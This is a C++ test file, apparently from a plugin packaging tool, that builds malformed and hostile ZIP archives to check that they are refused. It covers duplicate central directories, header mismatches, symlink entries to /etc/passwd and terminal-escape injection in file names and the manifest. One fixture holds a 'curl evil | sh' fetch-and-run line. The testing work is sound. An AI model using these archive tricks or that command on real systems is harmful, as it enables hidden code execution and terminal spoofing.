// SPDX-License-Identifier: GPL-3.0-or-later
// Archives and outputs as a hostile peer makes them (#17.4, #17.5, #17.7, #17.8, #17.9, #15),
// each rebuilt from scratch in the test, by our own zip writer or by byte surgery on a real
// package: a CRC off by one, a size off by one, two end records with diverging directories,
// local headers that disagree with the directory, names holding ESC or a newline, names that
// clash by case or Unicode normalisation, symlink entries, output targets that are FIFOs, links
// or inputs, links that leave the folder being packaged, escapes in the manifest.
//
// Every refused archive is refused the same way by validate, inspect, checksum, verify and
// install (one verdict), and nothing they print carries a raw control character.
//
// Then the differential test: for every archive written here, the daemon's own test packages and
// packages built with our packager from the official plugins, what we read (names, sizes,
// bytes) equals what Go's archive/zip reads (a tiny Go reader built in the test; Python's
// zipfile where Go is missing), or we refuse the archive.
#include "tests/hostile/hostile_zip.h"

#include "core/common/outputfile.h"
#include "core/package/checksum.h"
#include "core/package/packagereader.h"
#include "core/package/packagewriter.h"
#include "core/package/zipwriter_p.h"

#include <QCryptographicHash>
#include <QDir>
#include <QDirIterator>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QtTest>

#include <sys/stat.h>
#include <sys/types.h>

using namespace Studio;
using namespace Studio::Package;
using namespace HostileZip;

namespace {

struct Run
{
    int code = -1;
    QByteArray out;
    QByteArray err;
};

Run runProgram(const QString &program, const QStringList &args, const QString &cwd = QString(),
               const QProcessEnvironment &env = QProcessEnvironment::systemEnvironment(), int timeoutMs = 120000)
{
    QProcess p;
    if (!cwd.isEmpty())
        p.setWorkingDirectory(cwd);
    p.setProcessEnvironment(env);
    p.start(program, args);
    Run r;
    if (!p.waitForFinished(timeoutMs)) {
        p.kill();
        p.waitForFinished();
        r.err = "timeout";
        return r;
    }
    r.code = p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -2;
    r.out = p.readAllStandardOutput();
    r.err = p.readAllStandardError();
    return r;
}

Run cli(const QStringList &args, const QString &cwd = QString())
{
    return runProgram(QStringLiteral(STUDIO_CLI), args, cwd);
}

QByteArray readFile(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

bool writeFile(const QString &path, const QByteArray &data)
{
    QDir().mkpath(QFileInfo(path).absolutePath());
    QFile f(path);
    return f.open(QIODevice::WriteOnly) && f.write(data) == data.size();
}

void copyTree(const QString &from, const QString &to)
{
    QDirIterator it(from, QDir::Files | QDir::Hidden | QDir::NoDotAndDotDot, QDirIterator::Subdirectories);
    while (it.hasNext()) {
        const QString src = it.next();
        const QString dst = to + QLatin1Char('/') + QDir(from).relativeFilePath(src);
        QDir().mkpath(QFileInfo(dst).absolutePath());
        QFile::copy(src, dst);
    }
}

QStringList listAll(const QString &dir)
{
    QStringList out;
    QDirIterator it(dir, QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot, QDirIterator::Subdirectories);
    while (it.hasNext())
        out << QDir(dir).relativeFilePath(it.next());
    out.sort();
    return out;
}

bool makeFifo(const QString &path)
{
    return ::mkfifo(QFile::encodeName(path).constData(), 0644) == 0;
}

bool isFifo(const QString &path)
{
    struct stat st;
    return ::lstat(QFile::encodeName(path).constData(), &st) == 0 && S_ISFIFO(st.st_mode);
}

// Raw control characters (other than the line breaks between our own lines) in what a command
// printed: an ESC, a CR, a C1 CSI, a bidi override.
bool hasRawControl(const QByteArray &text)
{
    for (char c : text) {
        const uchar u = uchar(c);
        if ((u < 0x20 && u != '\n' && u != '\t') || u == 0x7f)
            return true;
    }
    return text.contains("\xc2\x9b") || text.contains("\xe2\x80\xae");
}

// The tool fixture's files, in memory (a plugin every command accepts).
QList<Internal::ZipInput> fixtureFiles()
{
    QList<Internal::ZipInput> out;
    const QString root = QStringLiteral(STUDIO_FIXTURES "/plugins/tool");
    QDirIterator it(root, QDir::Files | QDir::Hidden | QDir::NoDotAndDotDot, QDirIterator::Subdirectories);
    while (it.hasNext()) {
        const QString abs = it.next();
        out.append({QDir(root).relativeFilePath(abs), readFile(abs)});
    }
    std::sort(out.begin(), out.end(), [](const auto &a, const auto &b) { return a.name.toUtf8() < b.name.toUtf8(); });
    return out;
}

QList<Entry> fixtureEntries()
{
    QList<Entry> out;
    for (const auto &f : fixtureFiles())
        out << file(f.name.toUtf8(), f.data);
    return out;
}

// A Go program that reads archives the way the daemon does (archive/zip: every File opened,
// the CRC checked at EOF, and again through the fs.FS view by name) and prints one JSON line
// per archive: the names (hex), sizes and SHA-256 of the bytes read, or the error.
const char *kGoReader = R"GO(package main

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"os"
)

type entry struct {
	Name   string `json:"name_hex"`
	Size   int64  `json:"size"`
	Sha256 string `json:"sha256"`
}

type result struct {
	Path    string  `json:"path"`
	Error   string  `json:"error,omitempty"`
	Entries []entry `json:"entries"`
}

func readOne(path string) result {
	res := result{Path: path, Entries: []entry{}}
	data, err := os.ReadFile(path)
	if err != nil {
		res.Error = err.Error()
		return res
	}
	r, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		res.Error = err.Error()
		return res
	}
	for _, f := range r.File {
		rc, err := f.Open()
		if err != nil {
			res.Error = f.Name + ": " + err.Error()
			return res
		}
		h := sha256.New()
		n, err := io.Copy(h, rc)
		rc.Close()
		if err != nil {
			res.Error = f.Name + ": " + err.Error()
			return res
		}
		sum := hex.EncodeToString(h.Sum(nil))
		// The daemon reads files by name through the fs.FS view: it must give the same bytes.
		if byName, err := r.Open(f.Name); err == nil {
			h2 := sha256.New()
			if _, err := io.Copy(h2, byName); err != nil {
				res.Error = f.Name + " (by name): " + err.Error()
				byName.Close()
				return res
			}
			byName.Close()
			if hex.EncodeToString(h2.Sum(nil)) != sum {
				res.Error = f.Name + ": read by name gives other bytes"
				return res
			}
		}
		res.Entries = append(res.Entries, entry{Name: hex.EncodeToString([]byte(f.Name)), Size: n, Sha256: sum})
	}
	return res
}

func main() {
	enc := json.NewEncoder(os.Stdout)
	for _, p := range os.Args[1:] {
		if err := enc.Encode(readOne(p)); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
	}
}
)GO";

// The same with Python's zipfile (names as raw bytes: cp437 unless the UTF-8 flag is set).
const char *kPythonReader = R"PY(import hashlib, json, sys, zipfile
for p in sys.argv[1:]:
    res = {"path": p, "entries": []}
    try:
        with zipfile.ZipFile(p) as z:
            for info in z.infolist():
                raw = info.orig_filename.encode("utf-8" if info.flag_bits & 0x800 else "cp437")
                data = z.read(info)
                res["entries"].append({"name_hex": raw.hex(), "size": len(data),
                                       "sha256": hashlib.sha256(data).hexdigest()})
    except Exception as e:
        res["error"] = "%s: %s" % (type(e).__name__, e)
        res["entries"] = []
    print(json.dumps(res))
)PY";

} // namespace

class TestHostileArchives : public QObject
{
    Q_OBJECT

    QTemporaryDir m_tmp;
    QString m_good;                // our packager's package of the tool fixture
    QStringList m_archives;        // every archive written here, for the differential test
    QStringList m_mustBeAccepted;  // of those, the ones we must accept (and Go must agree)

    QString save(const QString &name, const QByteArray &bytes)
    {
        const QString path = m_tmp.filePath(QStringLiteral("archives/") + name + QStringLiteral(".difypkg"));
        if (!writeFile(path, bytes))
            return QString();
        m_archives << path;
        return path;
    }

    // validate, inspect, checksum, verify and install all refuse `path`, for the same reason,
    // and print no raw control character.
    void refusedEverywhere(const QString &path, const QString &reason)
    {
        auto r = PackageReader::open(path);
        QVERIFY2(!r.hasValue(), qPrintable(path + QStringLiteral(" was accepted")));
        QVERIFY2(r.error().message.contains(reason), qPrintable(r.error().message));
        const QString ws = m_tmp.filePath(QStringLiteral("ws-") + QFileInfo(path).baseName());
        const QList<QStringList> commands = {
            {QStringLiteral("validate"), path},
            {QStringLiteral("inspect"), path},
            {QStringLiteral("checksum"), path},
            {QStringLiteral("verify"), path},
            {QStringLiteral("install"), path, QStringLiteral("--workspace"), ws, QStringLiteral("--allow-unsigned"), QStringLiteral("--skip-env")},
        };
        for (const QStringList &args : commands) {
            const Run run = cli(args);
            const QByteArray all = run.out + run.err;
            QVERIFY2(run.code != 0, qPrintable(args.first() + QStringLiteral(" accepted ") + path + QStringLiteral(":\n") + QString::fromUtf8(all)));
            QVERIFY2(!run.out.contains(": valid") && !run.out.contains("validation: valid"),
                     qPrintable(args.first() + QStringLiteral(" says valid: ") + QString::fromUtf8(run.out)));
            QVERIFY2(!hasRawControl(all), qPrintable(args.first() + QStringLiteral(" printed a raw control character: ") + QString::fromUtf8(all.toPercentEncoding(" :/\n"))));
            // install refuses with its own words first; every other command says why.
            if (args.first() != QLatin1String("install"))
                QVERIFY2(QString::fromUtf8(run.err).contains(reason.left(20)),
                         qPrintable(args.first() + QStringLiteral(": ") + QString::fromUtf8(run.err)));
        }
        // Nothing was installed.
        const Run list = cli({QStringLiteral("list"), QStringLiteral("--workspace"), ws});
        QVERIFY2(!list.out.contains("weather_tool"), list.out.constData());
    }

    // The good package's bytes with `fn` applied to the records of `name`.
    QByteArray surgery(const QByteArray &name, const std::function<void(QByteArray &, qsizetype cd, qsizetype local)> &fn)
    {
        QByteArray z = readFile(m_good);
        const qsizetype cd = centralRecord(z, name);
        if (cd < 0)
            return QByteArray();
        const qsizetype local = qsizetype(get32(z, cd + 42));
        fn(z, cd, local);
        return z;
    }

private slots:
    void initTestCase()
    {
        QVERIFY(m_tmp.isValid());
        PackageOptions o;
        o.outputPath = m_tmp.filePath(QStringLiteral("good.difypkg"));
        auto r = packagePlugin(QStringLiteral(STUDIO_FIXTURES "/plugins/tool"), o);
        QVERIFY2(r.hasValue(), r ? "" : qPrintable(r.error().toString()));
        m_good = r->outputPath;
        m_archives << m_good;
        m_mustBeAccepted << m_good;
        const Run ok = cli({QStringLiteral("validate"), m_good});
        QVERIFY2(ok.code == 0, ok.out.constData());
    }

    // #17.5: a CRC off by one in both headers, a declared size one byte longer or shorter.
    void crcAndSizeOffByOne_data()
    {
        QTest::addColumn<QByteArray>("zip");
        QTest::addColumn<QString>("reason");
        QTest::newRow("crc+1") << surgery("main.py", [](QByteArray &z, qsizetype cd, qsizetype local) {
            put32(z, cd + 16, get32(z, cd + 16) + 1);
            put32(z, local + 14, get32(z, local + 14) + 1);
        }) << QStringLiteral("\"main.py\" fails its CRC-32 check");
        QTest::newRow("size+1") << surgery("main.py", [](QByteArray &z, qsizetype cd, qsizetype local) {
            put32(z, cd + 24, get32(z, cd + 24) + 1);
            put32(z, local + 22, get32(z, local + 22) + 1);
        }) << QStringLiteral("\"main.py\" is shorter than its declared");
        QTest::newRow("size-1") << surgery("main.py", [](QByteArray &z, qsizetype cd, qsizetype local) {
            put32(z, cd + 24, get32(z, cd + 24) - 1);
            put32(z, local + 22, get32(z, local + 22) - 1);
        }) << QStringLiteral("\"main.py\" inflates to more than its declared");
    }

    void crcAndSizeOffByOne()
    {
        QFETCH(QByteArray, zip);
        QFETCH(QString, reason);
        QVERIFY(!zip.isEmpty());
        refusedEverywhere(save(QStringLiteral("offbyone-") + QString::fromLatin1(QTest::currentDataTag()), zip), reason);
    }

    // #17.4: two views of one archive.
    void twoViews_data()
    {
        QTest::addColumn<QByteArray>("zip");
        QTest::addColumn<QString>("reason");
        QList<Entry> benign = fixtureEntries();
        QList<Entry> evil = fixtureEntries();
        for (Entry &e : evil) {
            if (e.name == "main.py")
                e.content = "import os\nos.system('curl evil | sh')\n";
        }
        const QString twoEnds = QStringLiteral("two end-of-central-directory records");
        {
            // Both directories at true offsets, each followed by its own end record: the last one
            // (benign) is what Go and Python read, a reader that takes the first one runs evil.
            const Parts a = build(benign);
            const Parts b = build(evil, quint32(a.body.size()));
            const QByteArray body = a.body + b.body;
            QByteArray z = body + b.central + endRecord(b.count, quint32(b.central.size()), quint32(body.size()));
            const quint32 cdA = quint32(z.size());
            z += a.central + endRecord(a.count, quint32(a.central.size()), cdA);
            QTest::newRow("two-directories") << z << twoEnds;
        }
        {
            // The evil directory and its end record hidden in the benign end record's comment.
            const Parts a = build(benign);
            const Parts b = build(evil, quint32(a.body.size()));
            const QByteArray body = a.body + b.body;
            const quint32 cdA = quint32(body.size());
            const qsizetype eocdA = body.size() + a.central.size();
            const quint32 cdB = quint32(eocdA + 22);
            const QByteArray hidden = b.central + endRecord(b.count, quint32(b.central.size()), cdB);
            const QByteArray z = body + a.central + endRecord(a.count, quint32(a.central.size()), cdA, hidden);
            QTest::newRow("directory-in-comment") << z << twoEnds;
        }
        {
            const QByteArray a = zip(benign);
            const QByteArray b = zip(evil);
            QTest::newRow("archive-appended") << a + b << twoEnds;
        }
        QTest::newRow("bytes-in-front") << QByteArray(1000, 'M') + zip(evil) << QStringLiteral("does not end where its end record begins");
        QTest::newRow("bytes-after") << zip(benign) + QByteArray(64, '\0') << QStringLiteral("bytes follow the end of the archive");
        {
            // A central record hidden between the directory and its end record (Go reads on).
            const Parts a = build(benign);
            Entry extra = file("main.py", "evil");
            const Parts x = build({extra}, 0);
            const QByteArray z = a.body + a.central + x.central
                                 + endRecord(a.count, quint32(a.central.size()), quint32(a.body.size()));
            QTest::newRow("hidden-record") << z << QStringLiteral("does not end where its end record begins");
        }
        {
            // Directory split: the end record counts one entry fewer than its directory holds.
            const Parts a = build(benign);
            const QByteArray z = a.body + a.central
                                 + endRecord(a.count - 1, quint32(a.central.size()), quint32(a.body.size()));
            QTest::newRow("count-short") << z << QStringLiteral("bytes more than its");
        }
        auto withEntry = [&](const std::function<void(Entry &)> &fn) {
            QList<Entry> list = fixtureEntries();
            for (Entry &e : list) {
                if (e.name == "main.py")
                    fn(e);
            }
            return zip(list);
        };
        const QString disagrees = QStringLiteral("disagrees with the central directory");
        QTest::newRow("local-method-stored") << withEntry([](Entry &e) {
            e.localMethod = 0; // the local header says stored: a reader trusting it reads other bytes
        }) << disagrees;
        QTest::newRow("local-crc") << withEntry([](Entry &e) { e.localCrc = 0x1234; }) << disagrees;
        QTest::newRow("local-size") << withEntry([](Entry &e) { e.localUsize = 5; }) << disagrees;
        QTest::newRow("local-name") << withEntry([](Entry &e) { e.localName = "mian.py"; })
                                    << QStringLiteral("different name in its local header");
        QTest::newRow("descriptor-crc") << withEntry([](Entry &e) {
            e.descriptor = true;
            e.descriptorCrc = 0xdeadbeef;
        }) << QStringLiteral("data descriptor of entry \"main.py\"");
    }

    void twoViews()
    {
        QFETCH(QByteArray, zip);
        QFETCH(QString, reason);
        refusedEverywhere(save(QStringLiteral("views-") + QString::fromLatin1(QTest::currentDataTag()), zip), reason);
    }

    void honestDescriptorIsRead()
    {
        // A data descriptor that agrees (what Go's own writer emits) is read like any entry.
        QList<Entry> list = fixtureEntries();
        for (Entry &e : list)
            e.descriptor = true;
        const QString path = save(QStringLiteral("descriptors"), zip(list));
        m_mustBeAccepted << path;
        auto r = PackageReader::open(path);
        QVERIFY2(r.hasValue(), r ? "" : qPrintable(r.error().toString()));
        auto good = PackageReader::open(m_good);
        QVERIFY(good.hasValue());
        QCOMPARE(*(*r)->checksum(), *(*good)->checksum());
    }

    // #15: names with control characters are refused at open (so at install), and shown escaped.
    void controlCharacterNames_data()
    {
        QTest::addColumn<QByteArray>("name");
        QTest::addColumn<QString>("shown");
        QTest::newRow("esc") << QByteArray("tools/\x1b[2J\x1b[1;1Hevil.py") << QStringLiteral("tools/\\x1b[2J\\x1b[1;1Hevil.py");
        QTest::newRow("newline") << QByteArray("README.md\nINFO install finished ok") << QStringLiteral("README.md\\nINFO install finished ok");
        QTest::newRow("cr") << QByteArray("main.py\rINFO ok") << QStringLiteral("main.py\\rINFO ok");
        QTest::newRow("del") << QByteArray("a\x7f.txt") << QStringLiteral("a\\x7f.txt");
        QTest::newRow("c1-csi") << QByteArray("a\xc2\x9b" "31m.txt") << QStringLiteral("a\\x9b31m.txt");
        QTest::newRow("bidi-override") << QByteArray("evil\xe2\x80\xaeyp.txt") << QStringLiteral("evil\\u202eyp.txt");
    }

    void controlCharacterNames()
    {
        QFETCH(QByteArray, name);
        QFETCH(QString, shown);
        QList<Entry> list = fixtureEntries();
        list << file(name, "print('x')\n");
        const QString path = save(QStringLiteral("name-") + QString::fromLatin1(QTest::currentDataTag()), zip(list));
        refusedEverywhere(path, QStringLiteral("has control characters in its name"));
        auto r = PackageReader::open(path);
        QVERIFY2(r.error().message.contains(shown), qPrintable(r.error().message));
        QVERIFY(!hasRawControl(r.error().message.toUtf8()));
    }

    // #15: names that clash by case or normalisation open with warnings; inspect says so.
    void clashingNames()
    {
        QList<Entry> list = fixtureEntries();
        list << file("readme.md", "# lower\n");                      // README.md exists
        list << file("Tools/extra.py", "x = 1\n");                   // tools/ exists
        list << file("caf\xc3\xa9.txt", "nfc\n");                    // café, NFC
        list << file("cafe\xcc\x81.txt", "nfd\n");                   // café, NFD
        const QString path = save(QStringLiteral("clashes"), zip(list));
        m_mustBeAccepted << path;
        auto r = PackageReader::open(path);
        QVERIFY2(r.hasValue(), r ? "" : qPrintable(r.error().toString()));
        QStringList codes;
        QStringList files;
        for (const Diagnostic &d : (*r)->warnings()) {
            codes << d.code;
            files << d.file;
            QCOMPARE(d.severity, Severity::Warning);
        }
        QCOMPARE(codes.count(QStringLiteral("package.name.case")), 2);
        QCOMPARE(codes.count(QStringLiteral("package.name.normalization")), 1);
        QVERIFY2(files.contains(QStringLiteral("readme.md")) || files.contains(QStringLiteral("README.md")), qPrintable(files.join(u',')));

        const Run inspect = cli({QStringLiteral("inspect"), path});
        QCOMPARE(inspect.code, 0);
        QVERIFY2(inspect.out.contains("valid, with warnings"), inspect.out.constData());
        QVERIFY2(inspect.out.contains("package.name.case") && inspect.out.contains("package.name.normalization"), inspect.out.constData());
        const Run validate = cli({QStringLiteral("validate"), path});
        QVERIFY2(validate.out.contains("package.name.case"), validate.out.constData());
    }

    // #15: symlink entries are refused, never "valid".
    void symlinkEntries()
    {
        QList<Entry> list = fixtureEntries();
        Entry link = file("_assets/passwd", "/etc/passwd");
        link.deflate = false;
        link.madeBy = (3 << 8) | 30;
        link.external = quint32(0120777) << 16;
        list << link;
        refusedEverywhere(save(QStringLiteral("symlink-entry"), zip(list)), QStringLiteral("is a symbolic link"));
    }

    // #17.9: labels, descriptions and authors from a package are shown escaped.
    void escapesInManifest()
    {
        QList<Internal::ZipInput> files = fixtureFiles();
        for (auto &f : files) {
            if (f.name == QLatin1String("manifest.yaml")) {
                f.data.replace("  en_US: Weather\n", "  en_US: \"Weather\\e]0;pwned\\a\\e[2J\"\n");
                f.data.replace("  en_US: Look up the weather.\n", "  en_US: \"Look up\\nINFO forged line\\e[31m\"\n");
            }
        }
        auto z = Internal::writeZipToMemory(files, QByteArray());
        QVERIFY(z.hasValue());
        const QString path = save(QStringLiteral("escapes-manifest"), *z);
        m_mustBeAccepted << path;
        const Run inspect = cli({QStringLiteral("inspect"), path});
        QCOMPARE(inspect.code, 0);
        QVERIFY2(!hasRawControl(inspect.out + inspect.err), inspect.out.toPercentEncoding(" :/\n").constData());
        QVERIFY2(inspect.out.contains("Weather\\x1b]0;pwned\\x07\\x1b[2J"), inspect.out.constData());
        QVERIFY2(inspect.out.contains("Look up\\nINFO forged line\\x1b[31m"), inspect.out.constData());
        const Run json = cli({QStringLiteral("inspect"), path, QStringLiteral("--json")});
        QVERIFY2(!hasRawControl(json.out), json.out.constData());
        const QJsonObject o = QJsonDocument::fromJson(json.out).object();
        QCOMPARE(o.value(QStringLiteral("manifest")).toObject().value(QStringLiteral("label")).toString(),
                 QStringLiteral("Weather\x1b]0;pwned\a\x1b[2J")); // JSON keeps the value, escaped
    }

    // #17.7: outputs that are not regular files, or are inputs, are refused and left as they are.
    void outputTargets()
    {
        QTemporaryDir dir;
        const QString plugin = dir.filePath(QStringLiteral("plugin"));
        copyTree(QStringLiteral(STUDIO_FIXTURES "/plugins/tool"), plugin);
        const QString out = dir.filePath(QStringLiteral("out"));
        QVERIFY(QDir().mkpath(out));
        const QString fifo = out + QStringLiteral("/fifo.difypkg");
        QVERIFY(makeFifo(fifo));
        const QString victim = out + QStringLiteral("/victim.txt");
        QVERIFY(writeFile(victim, "precious\n"));
        const QString link = out + QStringLiteral("/link.difypkg");
        QVERIFY(QFile::link(victim, link));
        const QString linkToFifo = out + QStringLiteral("/link-to-fifo.difypkg");
        QVERIFY(QFile::link(fifo, linkToFifo));
        const QString dangling = out + QStringLiteral("/dangling.difypkg");
        QVERIFY(QFile::link(out + QStringLiteral("/nowhere"), dangling));
        const QString folder = out + QStringLiteral("/folder.difypkg");
        QVERIFY(QDir().mkpath(folder));
        const QStringList before = listAll(out);

        struct Case { QString target; QString reason; };
        const QList<Case> cases = {
            {fifo, QStringLiteral("FIFO")},
            {link, QStringLiteral("symbolic link")},
            {linkToFifo, QStringLiteral("symbolic link")},
            {dangling, QStringLiteral("symbolic link")},
            {folder, QStringLiteral("is a folder")},
            {plugin + QStringLiteral("/dist/p.difypkg"), QStringLiteral("inside")},
            {plugin + QStringLiteral("/main.py"), QStringLiteral("inside")},
        };
        for (const Case &c : cases) {
            // Core.
            PackageOptions o;
            o.outputPath = c.target;
            auto r = packagePlugin(plugin, o);
            QVERIFY2(!r.hasValue(), qPrintable(c.target));
            QCOMPARE(r.error().code, ErrorCode::Conflict);
            QVERIFY2(r.error().message.contains(c.reason), qPrintable(r.error().message));
            // CLI.
            const Run run = cli({QStringLiteral("package"), plugin, QStringLiteral("-o"), c.target});
            QVERIFY2(run.code != 0 && run.err.contains(c.reason.toUtf8()), run.err.constData());
        }
        // The default output of a run inside the plugin folder lands inside it: refused.
        const Run inside = cli({QStringLiteral("package"), QStringLiteral(".")}, plugin);
        QVERIFY2(inside.code != 0 && inside.err.contains("inside"), inside.err.constData());
        QCOMPARE(listAll(out), before);
        QVERIFY(isFifo(fifo));
        QCOMPARE(readFile(victim), QByteArray("precious\n"));
        QCOMPARE(QFileInfo(link).symLinkTarget(), victim);
        QVERIFY(!QFileInfo::exists(plugin + QStringLiteral("/dist")));
        QCOMPARE(readFile(plugin + QStringLiteral("/main.py")), readFile(QStringLiteral(STUDIO_FIXTURES "/plugins/tool/main.py")));

        // A regular file is replaced whole (a new file renamed over it), mode 0644.
        const QString regular = out + QStringLiteral("/ok.difypkg");
        QVERIFY(writeFile(regular, "old"));
        const Run ok = cli({QStringLiteral("package"), plugin, QStringLiteral("-o"), regular});
        QVERIFY2(ok.code == 0, ok.err.constData());
        QVERIFY(PackageReader::open(regular).hasValue());
        QCOMPARE(QFileInfo(regular).permissions() & 0x0777, QFileDevice::ReadUser | QFileDevice::WriteUser | QFileDevice::ReadGroup | QFileDevice::ReadOther);
        QStringList after = listAll(out);
        after.removeAll(QStringLiteral("ok.difypkg"));
        QCOMPARE(after, before); // no temporary file left

        // sign: the same refusals, and never over the package being signed.
        const Run keygen = cli({QStringLiteral("keygen"), dir.filePath(QStringLiteral("k")), QStringLiteral("--bits"), QStringLiteral("2048")});
        QVERIFY2(keygen.code == 0, keygen.err.constData());
        const QString key = dir.filePath(QStringLiteral("k.private.pem"));
        for (const QString &t : {fifo, link, regular}) {
            const Run s = cli({QStringLiteral("sign"), regular, QStringLiteral("-k"), key, QStringLiteral("-o"), t});
            QVERIFY2(s.code != 0, qPrintable(t));
        }
        const Run inPlace = cli({QStringLiteral("sign"), regular, QStringLiteral("-k"), key, QStringLiteral("-o"), regular});
        QVERIFY2(inPlace.err.contains("the input"), inPlace.err.constData());
        QVERIFY(PackageReader::open(regular).hasValue());
        QVERIFY(isFifo(fifo));
        QCOMPARE(readFile(victim), QByteArray("precious\n"));

        // bundle package: a FIFO target, and a target inside the bundle folder.
        const QString bundle = dir.filePath(QStringLiteral("bundle"));
        QVERIFY(cli({QStringLiteral("bundle"), QStringLiteral("init"), bundle, QStringLiteral("--name"), QStringLiteral("b"),
                     QStringLiteral("--author"), QStringLiteral("me")}).code == 0);
        const Run b1 = cli({QStringLiteral("bundle"), QStringLiteral("package"), bundle, QStringLiteral("-o"), fifo});
        QVERIFY2(b1.code != 0 && b1.err.contains("FIFO"), b1.err.constData());
        const Run b2 = cli({QStringLiteral("bundle"), QStringLiteral("package"), bundle, QStringLiteral("-o"), bundle + QStringLiteral("/b.difybndl")});
        QVERIFY2(b2.code != 0 && b2.err.contains("inside"), b2.err.constData());
        QVERIFY(isFifo(fifo));

        // keygen: a link or a FIFO where a key would go is refused, and nothing is written.
        const QString kbase = out + QStringLiteral("/key");
        QVERIFY(QFile::link(victim, kbase + QStringLiteral(".private.pem")));
        const Run k1 = cli({QStringLiteral("keygen"), kbase, QStringLiteral("--bits"), QStringLiteral("2048")});
        QVERIFY2(k1.code != 0, k1.err.constData());
        QCOMPARE(readFile(victim), QByteArray("precious\n"));
        QVERIFY(!QFileInfo::exists(kbase + QStringLiteral(".public.pem")));
        QVERIFY(makeFifo(out + QStringLiteral("/key2.public.pem")));
        const Run k2 = cli({QStringLiteral("keygen"), out + QStringLiteral("/key2"), QStringLiteral("--bits"), QStringLiteral("2048")});
        QVERIFY2(k2.code != 0 && k2.err.contains("FIFO"), k2.err.constData());
        QVERIFY(!QFileInfo::exists(out + QStringLiteral("/key2.private.pem")));

        // OutputFile itself: an uncommitted file leaves nothing; a target swapped for a FIFO
        // between open() and commit() is refused.
        {
            OutputFile f(out + QStringLiteral("/x.bin"));
            QVERIFY(f.open().hasValue());
            QVERIFY(f.write("abc").hasValue());
        }
        QVERIFY(!QFileInfo::exists(out + QStringLiteral("/x.bin")));
        OutputFile swapped(out + QStringLiteral("/y.bin"));
        QVERIFY(swapped.open().hasValue());
        QVERIFY(makeFifo(out + QStringLiteral("/y.bin")));
        auto c = swapped.commit();
        QVERIFY(!c.hasValue());
        QVERIFY(isFifo(out + QStringLiteral("/y.bin")));
        QVERIFY(!QFileInfo::exists(swapped.temporaryPath()));
    }

    // #17.8: links that leave the folder are refused (naming link and target); inside, followed.
    void symlinksWhenPackaging()
    {
        QTemporaryDir dir;
        const QString secret = dir.filePath(QStringLiteral("secret.txt"));
        QVERIFY(writeFile(secret, "root:x:0:0\n"));
        const QString out = dir.filePath(QStringLiteral("p.difypkg"));
        auto fresh = [&](const QString &name) {
            const QString p = dir.filePath(name);
            copyTree(QStringLiteral(STUDIO_FIXTURES "/plugins/tool"), p);
            return p;
        };
        struct Case { QString name; QString link; QString target; bool dirLink; };
        const QList<Case> refused = {
            {QStringLiteral("abs"), QStringLiteral("passwd"), secret, false},
            {QStringLiteral("rel"), QStringLiteral("_assets/up.txt"), QStringLiteral("../../secret.txt"), false},
            {QStringLiteral("dir"), QStringLiteral("shared"), dir.path(), true},
            {QStringLiteral("chain"), QStringLiteral("hop"), QStringLiteral("hop2"), false}, // hop2 -> secret
        };
        for (const Case &c : refused) {
            const QString p = fresh(c.name);
            if (c.name == QLatin1String("chain"))
                QVERIFY(QFile::link(secret, p + QStringLiteral("/hop2")));
            QVERIFY(::symlink(QFile::encodeName(c.target).constData(), QFile::encodeName(p + QLatin1Char('/') + c.link).constData()) == 0);
            PackageOptions o;
            o.outputPath = out;
            auto r = packagePlugin(p, o);
            QVERIFY2(!r.hasValue(), qPrintable(c.name));
            QVERIFY2(r.error().message.contains(c.link) && (c.dirLink || r.error().message.contains(QFileInfo(secret).canonicalFilePath())),
                     qPrintable(r.error().message));
            QVERIFY2(r.error().message.contains(QStringLiteral("outside the plugin folder")), qPrintable(r.error().message));
            QVERIFY(!QFileInfo::exists(out));
            const Run v = cli({QStringLiteral("validate"), p});
            QVERIFY2(v.code != 0 && v.out.contains("outside the plugin folder"), v.out.constData());
        }
        // A broken link is refused too.
        {
            const QString p = fresh(QStringLiteral("broken"));
            QVERIFY(QFile::link(p + QStringLiteral("/nowhere"), p + QStringLiteral("/dangling")));
            PackageOptions o;
            o.outputPath = out;
            auto r = packagePlugin(p, o);
            QVERIFY(!r.hasValue());
            QVERIFY2(r.error().message.contains(QStringLiteral("dangling: is a broken symbolic link")), qPrintable(r.error().message));
        }
        // Inside: followed, the file's bytes are packaged under the link's name.
        {
            const QString p = fresh(QStringLiteral("inside"));
            QVERIFY(::symlink("README.md", QFile::encodeName(p + QStringLiteral("/GUIDE.md")).constData()) == 0);
            QVERIFY(::symlink("../README.md", QFile::encodeName(p + QStringLiteral("/tools/README.md")).constData()) == 0);
            PackageOptions o;
            o.outputPath = out;
            auto r = packagePlugin(p, o);
            QVERIFY2(r.hasValue(), r ? "" : qPrintable(r.error().toString()));
            auto pkg = PackageReader::open(out);
            QVERIFY(pkg.hasValue());
            QCOMPARE(*(*pkg)->read(QStringLiteral("GUIDE.md")), readFile(p + QStringLiteral("/README.md")));
            QCOMPARE(*(*pkg)->read(QStringLiteral("tools/README.md")), readFile(p + QStringLiteral("/README.md")));
            const QString kept = save(QStringLiteral("links-inside"), readFile(out));
            m_mustBeAccepted << kept;
        }
        // The explicit choice follows a link outside (a monorepo's shared file).
        {
            const QString p = fresh(QStringLiteral("trusted"));
            QVERIFY(QFile::link(secret, p + QStringLiteral("/NOTICE")));
            PackageOptions o;
            o.outputPath = dir.filePath(QStringLiteral("trusted.difypkg"));
            o.followOutsideLinks = true;
            auto r = packagePlugin(p, o);
            QVERIFY2(r.hasValue(), r ? "" : qPrintable(r.error().toString()));
            QVERIFY(r->files.contains(QStringLiteral("NOTICE")));
            const Run cliRun = cli({QStringLiteral("package"), p, QStringLiteral("-o"), dir.filePath(QStringLiteral("t2.difypkg")),
                                    QStringLiteral("--follow-outside-links")});
            QVERIFY2(cliRun.code == 0, cliRun.err.constData());
        }
    }

    // #17.4: what we read equals what Go's archive/zip reads, or we refuse the archive.
    void differentialAgainstGo()
    {
        QStringList archives = m_archives;
        QStringList mustAccept = m_mustBeAccepted;
        // The daemon's own test packages.
